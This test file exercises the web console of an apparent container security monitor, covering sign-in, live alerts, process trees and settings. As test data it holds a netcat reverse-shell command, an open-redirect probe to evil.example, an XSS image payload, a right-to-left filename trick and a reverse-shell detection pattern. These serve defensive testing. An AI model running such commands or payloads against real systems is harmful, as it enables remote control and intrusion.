// The console against the mock API: what a person sees.
import { fireEvent, screen, waitFor, within } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
// @ts-expect-error plain JavaScript, for development only
import { hostile } from '../dev/mock.mjs';
import { emit, mock, Source, start } from './harness';

describe('signing in', () => {
  it('asks who is there, says when the password is wrong, and goes where one wanted to go', async () => {
    await start('/rules?q=shell', { signedIn: false });
    const user = await screen.findByTestId('login-user');
    expect(window.location.pathname).toBe('/login');
    fireEvent.change(user, { target: { value: 'admin' } });
    const password = screen.getByTestId('login-password');
    fireEvent.change(password, { target: { value: 'wrong' } });
    fireEvent.click(screen.getByTestId('login-submit'));
    await screen.findByText('User name or password is wrong.');
    fireEvent.change(password, { target: { value: 'correct horse' } });
    fireEvent.click(screen.getByTestId('login-submit'));
    await screen.findByTestId('nav-rules');
    expect(window.location.pathname + window.location.search).toBe('/rules?q=shell');
  });

  it('never leaves the console for an address of another host', async () => {
    await start('/login?next=%2F%2Fevil.example%2F');
    await screen.findByTestId('nav-overview');
    expect(window.location.pathname).toBe('/');
  });

  it('sets the first password with the token of the address', async () => {
    await start('/first#token=first-token', { signedIn: false });
    const field = await screen.findByTestId('first-password');
    fireEvent.change(field, { target: { value: 'short' } });
    fireEvent.click(screen.getByTestId('first-submit'));
    await screen.findByText('At least 10 characters');
    fireEvent.change(field, { target: { value: 'long enough now' } });
    fireEvent.click(screen.getByTestId('first-submit'));
    await screen.findByTestId('nav-overview');
    const sent = mock.log.find((l: { path: string }) => l.path === '/session/first');
    expect(JSON.parse(sent.body)).toEqual({ token: 'first-token', password: 'long enough now' });
    expect(window.location.hash).toBe('');
  });

  it('comes back to the sign-in page when the session ends', async () => {
    await start('/');
    await screen.findByTestId('nav-overview');
    mock.state.signedIn = false;
    fireEvent.click(screen.getByTestId('nav-hosts'));
    await screen.findByTestId('login-user');
    expect(window.location.search).toContain(encodeURIComponent('/hosts'));
  });
});

describe('alerts', () => {
  it('come in live, without loading again', async () => {
    await start('/alerts?state=all');
    await screen.findAllByTestId('alert-row');
    const a = {
      ...mock.world.makeAlert(1, Date.now()),
      id: 'LIVE1',
      rule: 'A rule that just fired',
    };
    await waitFor(() => expect(Source.all.some((s) => s.readyState === 1)).toBe(true));
    mock.world.alerts.unshift(a);
    await emit('alert', a);
    await screen.findByText('A rule that just fired');
    expect(screen.getByTestId('live-state').dataset.state).toBe('live');
  });

  it('wait behind a pill while someone reads further down', async () => {
    await start('/alerts?state=all');
    await screen.findAllByTestId('alert-row');
    Object.defineProperty(window, 'scrollY', { value: 500, configurable: true });
    const a = { ...mock.world.makeAlert(1, Date.now()), id: 'LIVE2', rule: 'Quietly waiting' };
    mock.world.alerts.unshift(a);
    await emit('alert', a);
    const pill = await screen.findByTestId('new-pill');
    expect(pill.textContent).toContain('1 new');
    expect(screen.queryByText('Quietly waiting')).toBeNull();
    fireEvent.click(pill);
    await screen.findByText('Quietly waiting');
    Object.defineProperty(window, 'scrollY', { value: 0, configurable: true });
  });

  it('show what is wrong with a filter, with its place', async () => {
    await start('/alerts?filter=proc.nmae%20%3D%20sh');
    const said = await screen.findByText(/unknown field "proc\.nmae"/);
    expect(said.textContent).toContain('^');
  });

  it('tell their story: ancestry, container wall, technique, close and reopen', async () => {
    await start('/alerts');
    const a = mock.world.alerts.find(
      (x: { rule: string; state: string }) => x.rule === 'Reverse shell' && x.state === 'open',
    );
    window.history.replaceState(null, '', `/alerts/${a.id}`);
    window.dispatchEvent(new PopStateEvent('popstate'));
    const tree = await screen.findByTestId('alert-ancestry');
    expect(tree.querySelector('.culprit')?.textContent).toContain('sh -i');
    expect(tree.querySelector('.wall')?.textContent).toContain('payments-api');
    const link = document.querySelector('a.technique');
    expect(link?.getAttribute('href')).toBe('https://attack.mitre.org/techniques/T1059/004/');
    await waitFor(() =>
      // in colours: in several elements
      expect(document.body.textContent).toMatch(/evt\.type in \(dup, dup2, dup3\)/),
    );
    fireEvent.click(screen.getByTestId('alert-state'));
    await waitFor(() => expect(screen.getByTestId('alert-state').textContent).toBe('Reopen'));
    expect(mock.world.alerts.find((x: { id: string }) => x.id === a.id).state).toBe('closed');
  });

  it('show hostile text and never obey it', async () => {
    await start('/containers');
    await screen.findAllByTestId('container-row');
    expect(document.querySelector('main img')).toBeNull();
    expect(document.body.textContent).not.toContain('\u202e');
    expect(document.body.textContent).toContain('<img src=x onerror=alert(1)>\\u202egnp.exe');
    expect(hostile).toContain('\u202e');
  });
});

describe('process tree', () => {
  it('grows with live events and fades what ended', async () => {
    await start('/');
    const c = mock.world.containers[0];
    const root = mock.world.processes.find(
      (p: { container_id: string }) => p.container_id === c.id,
    );
    window.history.replaceState(null, '', `/containers/${c.id}`);
    window.dispatchEvent(new PopStateEvent('popstate'));
    const tree = await screen.findByTestId('process-tree');
    const p = mock.world.process(c, 'nc', 'nc 203.0.113.66 4444 -e /bin/sh', root, Date.now());
    await waitFor(() => expect(Source.all.at(-1)?.url).toContain('processes'));
    await emit('process', p);
    const row = await within(tree).findByText('nc');
    expect(row.closest('[role=treeitem]')?.classList.contains('ended')).toBe(false);
    await emit('process', { ...p, exit_time: new Date().toISOString(), exit_code: 143 });
    await waitFor(() =>
      expect(
        within(tree).getByText('nc').closest('[role=treeitem]')?.classList.contains('ended'),
      ).toBe(true),
    );
    expect(within(tree).getByText(/exit 143/)).toBeTruthy();
  });
});

describe('rules', () => {
  it('show an error of a rule file with file, line and column', async () => {
    await start('/rules', { scenario: 'rule-error' });
    const banner = await screen.findByTestId('rules-error');
    expect(banner.textContent).toContain('/etc/skep/rules.d/local.yaml:14:27');
    expect(banner.textContent).toContain('stay in force');
  });
});

describe('overview', () => {
  it('says that the store cannot write, and why', async () => {
    await start('/', { scenario: 'disk-full' });
    const said = await screen.findByTestId('store-broken');
    expect(said.textContent).toMatch(/The store cannot write.*no space left on its disk/);
  });
});

const confirmButton = () =>
  document.querySelector('.ant-modal-confirm-btns .ant-btn-dangerous') as HTMLElement;

describe('settings', () => {
  it('change ones own password, and say what is wrong with it', async () => {
    await start('/settings/password');
    const type = (id: string, value: string) =>
      fireEvent.change(screen.getByTestId(id), { target: { value } });
    await screen.findByTestId('password-old');
    type('password-old', 'wrong horse');
    type('password-new', 'another horse');
    type('password-again', 'another house');
    fireEvent.click(screen.getByTestId('password-submit'));
    await screen.findByText('The two are not the same');
    type('password-again', 'another horse');
    fireEvent.click(screen.getByTestId('password-submit'));
    await screen.findByText(/the old password is wrong/);
    type('password-old', 'correct horse');
    fireEvent.click(screen.getByTestId('password-submit'));
    await screen.findByText('Password changed');
    expect((screen.getByTestId('password-old') as HTMLInputElement).value).toBe('');
    expect(window.location.pathname).toBe('/settings/password');
  });

  it('show a new token once', async () => {
    await start('/settings/tokens');
    fireEvent.click(await screen.findByRole('button', { name: /Make token/ }));
    fireEvent.change(await screen.findByLabelText('What it is for'), { target: { value: 'ci' } });
    const buttons = screen.getAllByRole('button', { name: /Make token/ });
    fireEvent.click(buttons.at(-1) as HTMLElement);
    const secret = await screen.findByTestId('token-secret');
    expect(secret.textContent).toMatch(/^skep_/);
    fireEvent.click(screen.getByText('I have kept it'));
    await waitFor(() => expect(screen.queryByTestId('token-secret')).toBeNull());
  });

  it('show the command of a new join token once, and revoke tokens', async () => {
    await start('/settings/agents');
    fireEvent.click(await screen.findByTestId('join-add'));
    fireEvent.change(await screen.findByTestId('join-name'), { target: { value: 'web 9' } });
    fireEvent.click(screen.getByTestId('join-create'));
    const command = await screen.findByTestId('join-command');
    expect(command.textContent).toMatch(/^skep agent --console .* --join /);
    fireEvent.click(screen.getByTestId('join-kept'));
    await waitFor(() => expect(screen.queryByTestId('join-command')).toBeNull());
    const row = (await screen.findByText('web 9')).closest('tr') as HTMLElement;
    expect(row.textContent).toContain('0 of 1');
    fireEvent.click(within(row).getByTestId('join-revoke'));
    await screen.findByText(/Agents that did stay/);
    fireEvent.click(confirmButton());
    await waitFor(() => expect(row.textContent).toContain('revoked'));
  });

  it('revoke an agent after asking', async () => {
    await start('/settings/agents');
    const button = (await screen.findAllByTestId('agent-revoke'))[0] as HTMLElement;
    const row = button.closest('tr') as HTMLElement;
    expect(row.textContent).not.toContain('revoked');
    fireEvent.click(button);
    await screen.findByText(/comes back with a join token made after this/);
    fireEvent.click(confirmButton());
    await waitFor(() => expect(row.textContent).toContain('revoked'));
    expect(within(row).queryByTestId('agent-revoke')).toBeNull();
  });
});

describe('every area', () => {
  const areas = [
    '/',
    '/alerts',
    '/incidents',
    '/containers',
    '/images',
    '/hosts',
    '/rules',
    '/settings/agents',
  ];

  it.each(areas)('says that it is empty: %s', async (path) => {
    await start(path, { scenario: 'empty' });
    await waitFor(() => expect(document.querySelector('.area')).not.toBeNull());
    expect(document.querySelector('.area-failed')).toBeNull();
  });

  it.each(areas)('says that it failed and offers to try again: %s', async (path) => {
    await start(path, { scenario: 'error' });
    await screen.findAllByText(/the store does not answer/);
    expect(screen.getAllByText('Try again').length).toBeGreaterThan(0);
  });

  it('speaks both languages and remembers the choice', async () => {
    await start('/');
    fireEvent.click(await screen.findByTestId('lang-switch'));
    await waitFor(() => expect(screen.getByTestId('nav-alerts').textContent).toContain('告警'));
    expect(document.documentElement.lang).toBe('zh-CN');
    expect(localStorage.getItem('skep.lang')).toBe('"zh"');
  });
});
